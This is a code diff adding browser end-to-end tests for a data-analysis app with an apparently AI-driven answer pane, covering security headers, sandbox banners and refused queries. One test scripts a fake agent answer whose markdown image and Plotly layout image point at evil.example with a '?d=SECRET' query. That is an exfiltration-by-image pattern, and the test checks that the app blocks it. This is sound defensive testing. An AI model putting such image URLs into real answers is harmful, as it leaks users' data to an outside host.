@@ -168,6 +168,21 @@ async function main() {
       await page.getByRole('heading', { name: 'Projects' }).waitFor();
     });
 
+    await test('every response carries the security headers; no sandbox banner on an isolated backend', async () => {
+      for (const url of [`${base}/`, `${base}/assets/missing.js`, `${base}/api/v1/auth/me`, `${base}/healthz`]) {
+        const headers = (await page.request.get(url)).headers();
+        const csp = headers['content-security-policy'] ?? '';
+        expect(csp.includes("script-src 'self'") && csp.includes("frame-ancestors 'none'"), `${url}: CSP was ${JSON.stringify(csp)}`);
+        expect(headers['x-content-type-options'] === 'nosniff' && headers['x-frame-options'] === 'DENY', `${url}: headers ${JSON.stringify(headers)}`);
+      }
+      const status = page.waitForResponse((r) => r.url().endsWith('/api/v1/sandbox'));
+      await page.reload();
+      const body = await (await status).json();
+      expect(body.available && body.isolated, `the e2e backend should run isolated: ${JSON.stringify(body)}`);
+      await page.getByRole('heading', { name: 'Projects' }).waitFor();
+      expect((await page.getByTestId('sandbox-banner').count()) === 0, 'no sandbox banner is shown');
+    });
+
     await test('create a project', async () => {
       await page.getByRole('button', { name: 'New project' }).last().click();
       await page.getByRole('textbox', { name: 'Name' }).fill('Quarterly sales');
@@ -347,6 +362,95 @@ async function main() {
       await shot('06-session-cancelled');
     });
 
+    await test('an answer cannot make the browser load outside URLs (markdown images, Plotly layout images)', async () => {
+      const outside = [];
+      const onRequest = (r) => /evil\.example|example\.org/.test(r.url()) && outside.push(r.url());
+      page.on('request', onRequest);
+      await script(
+        [
+          {
+            thought: 'Chart it with a logo.',
+            code:
+              'import plotly.graph_objects as go\nfig = go.Figure(go.Bar(x=["a", "b"], y=[1, 2]))\n' +
+              'fig.add_layout_image(source="http://evil.example/logo.png?d=SECRET", xref="paper", yref="paper", x=0, y=1, sizex=0.3, sizey=0.3)\nfig.show()',
+          },
+          { final: 'Done: ![the data](http://evil.example/pixel.png?d=SECRET) — see [the source](https://example.org/page).' },
+        ],
+        0.01,
+      );
+      await ask('Chart it with our logo.');
+      await lastRun().getByTestId('final-answer').filter({ hasText: 'Done' }).waitFor({ timeout: 30_000 });
+      await lastRun().locator('.js-plotly-plot .main-svg').first().waitFor();
+      await lastRun().getByTestId('blocked-image').filter({ hasText: 'external image blocked: the data from evil.example' }).waitFor();
+      const link = lastRun().getByRole('link', { name: 'the source' });
+      expect((await link.getAttribute('rel')) === 'noopener noreferrer nofollow', 'external links carry rel=noopener noreferrer nofollow');
+      await page.waitForTimeout(1000);
+      const pointing = await page.evaluate(() =>
+        [...document.querySelectorAll('img, image')].filter((e) => [...e.attributes].some((a) => a.value.includes('evil.example'))).length,
+      );
+      expect(pointing === 0, `${pointing} image elements point at the outside host`);
+      page.off('request', onRequest);
+      expect(outside.length === 0, `requests to outside hosts: ${outside.join(', ')}`);
+      await lastRun().getByTestId('final-answer').scrollIntoViewIfNeeded();
+      await shot('10-external-image-blocked');
+    });
+
+    await test('sandbox banners: analysis disabled, then not isolated', async () => {
+      const fake = (over) => ({
+        isolation: 'required',
+        mechanism: 'bubblewrap',
+        location: 'backend',
+        available: true,
+        isolated: true,
+        detail: 'Code runs in bubblewrap.',
+        fix: null,
+        seccomp: [],
+        ...over,
+      });
+      await page.route('**/api/v1/sandbox', (route) =>
+        route.fulfill({
+          json: fake({
+            available: false,
+            isolated: false,
+            mechanism: null,
+            detail: 'bubblewrap cannot create a user namespace on this host',
+            fix: 'allow unprivileged user namespaces (sysctl kernel.unprivileged_userns_clone=1), or set SANDBOX_ISOLATION=none for a single trusted user',
+          }),
+        }),
+      );
+      await page.reload();
+      const banner = page.getByTestId('sandbox-banner');
+      await banner.filter({ hasText: 'Analysis is disabled: bubblewrap cannot create a user namespace on this host. Fix: allow' }).waitFor();
+      await page.getByTestId('composer-disabled').waitFor();
+      expect(await page.getByRole('textbox', { name: 'Ask a question about your data' }).isDisabled(), 'the composer is disabled');
+      await page.locator('.js-plotly-plot .main-svg').last().waitFor();
+      await shot('11-sandbox-disabled');
+      await page.unroute('**/api/v1/sandbox');
+      await page.route('**/api/v1/sandbox', (route) =>
+        route.fulfill({ json: fake({ isolation: 'none', mechanism: 'rlimits', isolated: false, detail: 'Limits only.' }) }),
+      );
+      await page.reload();
+      await banner.filter({ hasText: 'Analysis code is not isolated (SANDBOX_ISOLATION=none): use this only for a single trusted user.' }).waitFor();
+      expect(!(await page.getByRole('textbox', { name: 'Ask a question about your data' }).isDisabled()), 'the composer stays enabled');
+      await page.locator('.js-plotly-plot .main-svg').last().waitFor();
+      await shot('12-sandbox-not-isolated');
+      await page.unroute('**/api/v1/sandbox');
+      const status = page.waitForResponse((r) => r.url().endsWith('/api/v1/sandbox'));
+      await page.reload();
+      await status;
+      await page.getByRole('textbox', { name: 'Ask a question about your data' }).waitFor();
+      expect((await banner.count()) === 0, 'the banner goes away with a working sandbox');
+    });
+
+    await test('a query refused with 503 sandbox_unavailable shows its reason', async () => {
+      const detail = 'No sandbox can be started: bubblewrap is missing. Install it (apt-get install bubblewrap) or set SANDBOX_ISOLATION=none.';
+      await page.route('**/api/v1/sessions/*/query', (route) => route.fulfill({ status: 503, json: { detail, code: 'sandbox_unavailable' } }));
+      await ask('Will this run?');
+      await page.getByTestId('query-refused').filter({ hasText: detail }).waitFor();
+      await shot('13-query-refused');
+      await page.unroute('**/api/v1/sessions/*/query');
+    });
+
     await test('dark theme and a narrow window', async () => {
       await page.getByRole('button', { name: 'Switch to dark theme' }).click();
       await page.waitForTimeout(500);
@@ -382,9 +486,9 @@ async function main() {
     });
 
     await test('no console errors', async () => {
-      // The browser logs the expected 401 (invalid token), 409 (busy), 413/415 (bad uploads) responses;
-      // they are not app errors.
-      const real = consoleErrors.filter((e) => !/status of (401|409|413|415)/.test(e));
+      // The browser logs the expected 401 (invalid token), 409 (busy), 413/415 (bad uploads) and 503
+      // (analysis disabled) responses; they are not app errors. A Content-Security-Policy violation is.
+      const real = consoleErrors.filter((e) => !/status of (401|409|413|415|503)/.test(e));
       expect(real.length === 0, `console errors:\n${real.join('\n')}`);
     });
   } finally {
